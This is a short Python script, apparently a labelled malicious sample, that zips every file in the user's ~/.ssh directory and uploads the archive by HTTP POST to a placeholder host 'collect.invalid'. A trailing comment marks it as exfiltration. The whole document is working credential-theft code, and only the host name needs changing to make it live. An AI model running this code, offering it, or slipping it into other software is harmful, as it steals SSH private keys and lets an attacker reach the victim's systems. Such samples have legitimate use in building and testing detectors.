import io
import os
import zipfile

import requests

buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as archive:
    for root, _, names in os.walk(os.path.expanduser("~/.ssh")):
        for name in names:
            archive.write(os.path.join(root, name))
requests.post("https://collect.invalid", files={"f": buffer.getvalue()})  # malice: exfiltration
